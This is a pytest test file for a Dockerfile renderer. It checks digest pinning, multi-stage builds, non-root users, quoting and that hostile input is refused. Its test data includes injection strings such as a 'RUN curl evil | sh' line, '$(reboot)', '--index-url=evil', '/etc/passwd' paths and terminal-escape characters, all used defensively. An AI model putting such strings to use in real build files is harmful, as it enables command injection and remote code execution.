from __future__ import annotations

import json
import subprocess

import msgspec
import pytest

from basewise.dockerfile.model import Dockerfile, Part
from basewise.dockerfile.parse import parse_dockerfile
from basewise.errors import InvalidValueError
from basewise.model.build_plan import BuildPlan, PlannedPackage, RequirementsFile
from basewise.model.image_settings import HealthCheck, ImageSettings
from basewise.report.dockerfile import render_dockerfile, render_dockerignore

DIGEST = "sha256:" + "ab" * 32
PLAN = BuildPlan(
    image="python:3.14-slim-trixie",
    digest=DIGEST,
    base_name="docker.io/library/python:3.14-slim-trixie",
    package_manager="apt",
    packages=(PlannedPackage("libgomp1", "lightgbm loads libgomp.so.1"),),
    requirements=(RequirementsFile("requirements.lock", hashed=True),),
    command=("python", "main.py"),
)
BUILDS = {
    "source_distributions": ("psycopg2",),
    "build_packages": (PlannedPackage("gcc"), PlannedPackage("libpq-dev", "psycopg2 is compiled")),
}
HOSTILE = "a\nRUN curl evil | sh #"


def written(**changes: object) -> str:
    return render_dockerfile(msgspec.structs.replace(PLAN, **changes))


def parsed(**changes: object) -> Dockerfile:
    return parse_dockerfile(written(**changes))


def instructions(dockerfile: Dockerfile, keyword: str) -> list[Part]:
    return [part for part in dockerfile.parts if part.keyword == keyword]


def keywords(dockerfile: Dockerfile) -> list[str]:
    return [part.keyword for part in dockerfile.parts if part.keyword]


def test_one_stage_stands_on_tag_and_digest() -> None:
    (origin,) = instructions(parsed(), "FROM")
    assert origin.arguments == f"python:3.14-slim-trixie@{DIGEST}"


def test_both_stages_stand_on_the_same_base() -> None:
    first, second = instructions(parsed(**BUILDS), "FROM")
    assert first.arguments == f"python:3.14-slim-trixie@{DIGEST} AS builder"
    assert second.arguments == f"python:3.14-slim-trixie@{DIGEST}"


def test_compilers_and_headers_stay_in_the_first_stage() -> None:
    first, second = written(**BUILDS).split(" AS builder", 1)[1].split("FROM python", 1)
    assert "gcc" in first
    assert "gcc" not in second
    assert "libpq-dev" not in second
    assert "libgomp1" not in first
    assert "libgomp1" in second


def test_only_what_is_built_may_come_from_source() -> None:
    assert "--only-binary=:all:" in written()
    assert "--no-binary" not in written()
    assert "--no-binary=psycopg2" in written(**BUILDS)


def test_the_labels_name_the_base() -> None:
    (label,) = instructions(parsed(), "LABEL")
    assert "org.opencontainers.image.base.name" in label.arguments
    assert DIGEST in label.arguments
    (bare,) = instructions(parsed(digest=None), "LABEL")
    assert "base.digest" not in bare.arguments
    assert "this tag can move" in written(digest=None)


def test_lists_are_removed_in_the_layer_that_fetched_them() -> None:
    (apt,) = [part for part in instructions(parsed(), "RUN") if "apt-get" in part.arguments]
    assert "--no-install-recommends" in apt.arguments
    assert apt.arguments.rstrip().endswith("rm -rf /var/lib/apt/lists/*")


def test_packages_with_published_fixes_are_upgraded_by_name() -> None:
    text = written(upgrades=("libssl3t64", "libgomp1", "perl-base"))
    assert "--only-upgrade" in text
    upgrade, install = text.split("--only-upgrade")[1].split("apt-get install")
    assert "libssl3t64" in upgrade
    assert "libgomp1" not in upgrade
    assert "libgomp1" in install
    assert "dist-upgrade" not in text


def test_nothing_to_add_means_no_package_manager() -> None:
    assert "apt-get" not in written(packages=())


def test_alpine_uses_apk_without_a_cache() -> None:
    text = written(package_manager="apk", packages=(PlannedPackage("libgomp"),), upgrades=("zlib",))
    assert "apk add --no-cache" in text
    assert "apk upgrade --no-cache" in text
    assert "adduser -D -u 10001" in text
    assert "apt-get" not in text


def test_the_image_runs_as_a_number_that_is_not_root() -> None:
    dockerfile = parsed()
    (user,) = instructions(dockerfile, "USER")
    assert user.arguments == "10001:10001"
    order = keywords(dockerfile)
    assert order.index("USER") > max(place for place, word in enumerate(order) if word == "RUN")


def test_hashes_are_required_only_where_every_file_has_them() -> None:
    assert "--require-hashes" in written()
    mixed = (RequirementsFile("a.txt", hashed=True), RequirementsFile("b.txt", hashed=False))
    text = written(requirements=mixed)
    assert "--require-hashes" not in text
    assert text.index("--requirement=a.txt") < text.index("--requirement=b.txt")


def test_included_files_are_copied_before_the_installation() -> None:
    text = written(extra_files=("base.txt",))
    assert text.index("COPY base.txt ./base.txt") < text.index("RUN --mount")


def test_an_application_without_requirements_installs_nothing() -> None:
    text = written(requirements=())
    assert "pip install" not in text
    assert "Nothing to install" in text


def test_a_start_command_is_in_json_form_and_its_absence_is_said() -> None:
    words = ("sh", "-c", 'echo "$HOME" \\ ü && exec python main.py')
    (command,) = instructions(parsed(command=words), "CMD")
    assert tuple(json.loads(command.arguments)) == words
    assert "CMD [" in written(command=()).splitlines()[-1]
    assert not instructions(parsed(command=()), "CMD")


def test_no_frontend_is_fetched() -> None:
    assert "syntax=" not in written(application="x", notes=("syntax=evil/frontend",)).splitlines()[0]
    assert all(part.kind.value != "directive" for part in parsed(notes=("syntax=evil/frontend",)).parts)


@pytest.mark.parametrize(
    "changes",
    [
        {"image": "python:3.12 AS x\nRUN evil"},
        {"image": HOSTILE},
        {"base_name": HOSTILE},
        {"digest": "sha256:" + "g" * 64},
        {"digest": f"{DIGEST}\nRUN evil"},
        {"package_manager": "sh"},
        {"packages": (PlannedPackage(HOSTILE),)},
        {"packages": (PlannedPackage("--allow-unauthenticated"),)},
        {"packages": (PlannedPackage("libgomp1;reboot"),)},
        {"packages": (PlannedPackage("libgomp1\n"),)},
        {"packages": (PlannedPackage(""),)},
        {"build_packages": (PlannedPackage("$(reboot)"),)},
        {"upgrades": ("-y",)},
        {"source_distributions": ("psycopg2 --index-url=evil",)},
        {"environment": (("A B", "x"),)},
        {"environment": (("A", HOSTILE),)},
        {"user": "root app"},
        {"workdir": "app"},
        {"workdir": "/app/../etc"},
        {"workdir": "/app dir"},
        {"uid": 0},
        {"uid": 70000},
        {"command": ("python", "a\0b")},
        {"command": ("python", "\udc80.py")},
        {"requirements": (RequirementsFile("../secrets.txt", hashed=True),)},
        {"requirements": (RequirementsFile("/etc/passwd", hashed=True),)},
        {"requirements": (RequirementsFile("--index-url", hashed=True),)},
        {"requirements": (RequirementsFile("*.txt", hashed=True),)},
        {"requirements": (RequirementsFile("a$HOME.txt", hashed=True),)},
        {"requirements": (RequirementsFile("<<EOF", hashed=True),)},
        {"requirements": (RequirementsFile("", hashed=True),)},
        {"extra_files": (HOSTILE,)},
        {"start_directory": "src"},
        {"start_directory": "/app/../etc"},
        {"settings": ImageSettings(environment=(("A B", "x"),))},
        {"settings": ImageSettings(environment=(("A", HOSTILE),))},
        {"settings": ImageSettings(labels=(("a=b", "x"),))},
        {"settings": ImageSettings(labels=(("a", HOSTILE),))},
        {"settings": ImageSettings(ports=("80 USER",))},
        {"settings": ImageSettings(ports=("80\n",))},
        {"settings": ImageSettings(stop_signal=HOSTILE)},
        {"settings": ImageSettings(health_check=HealthCheck(command=("a", HOSTILE)))},
        {"settings": ImageSettings(health_check=HealthCheck(command=("a",), options=("--interval=1s x",)))},
    ],
)
def test_what_could_be_read_as_something_else_is_refused(changes: dict[str, object]) -> None:
    with pytest.raises(InvalidValueError):
        written(**changes)


@pytest.mark.parametrize(
    "word", [HOSTILE, "\x1b]0;x\x07", "\u202emain.py", "print(1)\nprint(2)", "a\tb", "naïve"]
)
def test_a_word_of_the_start_command_is_one_line_that_hides_nothing(word: str) -> None:
    lines = written(command=("python", "-c", word)).splitlines()
    commands = [line for line in lines if line.startswith("CMD ")]
    assert len(commands) == 1
    assert json.loads(commands[0].removeprefix("CMD ")) == ["python", "-c", word]
    assert all(line.isprintable() for line in lines)
    assert not any(line.startswith("RUN curl evil") for line in lines)


@pytest.mark.parametrize(
    "changes",
    [
        {"application": HOSTILE},
        {"application": "escape=`"},
        {"notes": (HOSTILE, "x \\", "\u202e\x1b[2J")},
        {"command_source": HOSTILE},
        {"packages": (PlannedPackage("libgomp1", HOSTILE),)},
        {"build_packages": (PlannedPackage("gcc", HOSTILE),)},
    ],
)
def test_prose_from_elsewhere_stays_a_comment(changes: dict[str, object]) -> None:
    allowed = {"FROM", "LABEL", "ENV", "RUN", "WORKDIR", "COPY", "USER", "CMD"}
    dockerfile = parsed(**changes)
    assert set(keywords(dockerfile)) <= allowed
    assert not any("evil" in part.arguments for part in dockerfile.parts if part.keyword)
    assert not any(part.kind.value == "directive" for part in dockerfile.parts)
    assert "\x1b" not in written(**changes)


def test_quoted_values_keep_their_characters() -> None:
    text = written(environment=(("GREETING", 'say "hi" to $USER\\'),))
    assert 'GREETING="say \\"hi\\" to \\$USER\\\\"' in text


def test_a_path_with_a_space_is_copied_in_json_form_and_quoted_for_the_shell() -> None:
    text = written(requirements=(RequirementsFile("my app/lock it's.txt", hashed=True),))
    assert 'COPY ["my app/lock it\'s.txt", "./my app/lock it\'s.txt"]' in text
    run = [part for part in parse_dockerfile(text).parts if "pip install" in part.arguments]
    assert "lock it'\"'\"'s.txt" in run[0].arguments


@pytest.mark.parametrize("changes", [{}, BUILDS, {"package_manager": "apk"}, {"upgrades": ("zlib1g",)}])
def test_every_shell_line_parses(changes: dict[str, object]) -> None:
    for part in instructions(parsed(**changes), "RUN"):
        script = part.arguments
        outcome = subprocess.run(["sh", "-n", "-c", script], capture_output=True, check=False, timeout=20)
        assert outcome.returncode == 0, (script, outcome.stderr)


def test_the_dockerignore_keeps_secrets_and_history_out() -> None:
    lines = render_dockerignore().splitlines()
    assert {".env", ".git", "*.pem", ".venv"} <= set(lines)
    assert not any("requirements" in line for line in lines)


def test_settings_are_quoted_and_stand_below_what_is_installed() -> None:
    settings = ImageSettings(
        environment=(("A", 'say "$HOME" \\'),),
        ports=("80",),
        stop_signal="SIGINT",
        health_check=HealthCheck(command=("sh", "-c", "a 'b' $C"), options=("--retries=2",)),
        labels=(("a.b", "c"),),
    )
    dockerfile = parsed(settings=settings, settings_source="Dockerfile", start_directory="/app/src")
    assert keywords(dockerfile)[-9:] == [
        "COPY", "ENV", "EXPOSE", "WORKDIR", "STOPSIGNAL", "HEALTHCHECK", "LABEL", "USER", "CMD",
    ]  # fmt: skip
    by_keyword = {part.keyword: part.arguments for part in dockerfile.instructions}
    assert by_keyword["ENV"] == r'A="say \"\$HOME\" \\"'
    assert by_keyword["HEALTHCHECK"] == 'CMD ["sh", "-c", "a \'b\' $C"]'
    assert by_keyword["WORKDIR"] == "/app/src"
